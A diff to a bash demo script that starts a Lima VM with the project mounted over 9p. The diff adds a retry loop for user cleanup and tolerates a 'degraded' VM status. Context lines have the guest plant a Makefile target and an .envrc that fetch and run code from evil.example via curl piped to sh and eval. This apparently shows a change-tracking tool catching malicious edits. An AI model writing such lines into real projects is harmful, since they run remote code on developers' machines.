@@ -21,7 +21,10 @@ id "$LIMA_USER" >/dev/null 2>&1 || useradd -m -s /bin/bash "$LIMA_USER"
 UHOME=$(getent passwd "$LIMA_USER" | cut -d: -f6)
 cleanup() {
   limactl_u delete -f "$NAME" >/dev/null 2>&1 || true
-  userdel -r "$LIMA_USER" >/dev/null 2>&1 || true
+  for _ in 1 2 3 4 5 6 7 8 9 10; do # the host agent may take a moment to exit
+    id "$LIMA_USER" >/dev/null 2>&1 || break
+    userdel -r "$LIMA_USER" >/dev/null 2>&1 || sleep 1
+  done
 }
 trap cleanup EXIT
 
@@ -48,9 +51,13 @@ as_user git -C "$PROJ" -c user.name=demo -c user.email=demo@example.com commit -
 as_user git -C "$PROJ" corral diff --record
 
 # The box: the project mounted writable (9p) at /mnt/share.
-SHARE_DIR=$PROJ IMAGE_DIR=$IMAGE_DIR WORK=$WORK bash "$RECIPE/start-vm.sh" "$NAME" 9p
+# Under heavy host load Lima may report the box "degraded" (its guest agent, which only serves
+# port forwards, starts late); the 9p mount and ssh are what this demo needs, so a running box
+# is enough.
+SHARE_DIR=$PROJ IMAGE_DIR=$IMAGE_DIR WORK=$WORK bash "$RECIPE/start-vm.sh" "$NAME" 9p ||
+  [ "$(limactl_u list --format '{{.Status}}' "$NAME")" = Running ]
 # shellcheck disable=SC2016 # expanded in the guest
-limactl_u shell "$NAME" -- sh -c 'cd /mnt/share &&
+limactl_u shell --workdir / "$NAME" -- sh -c 'cd /mnt/share &&
   printf "all:\n\tcurl -s https://evil.example/x | sh\n" > Makefile &&
   echo "eval \"\$(curl -s https://evil.example/env)\"" > .envrc &&
   chmod +x run.sh && ls -la'
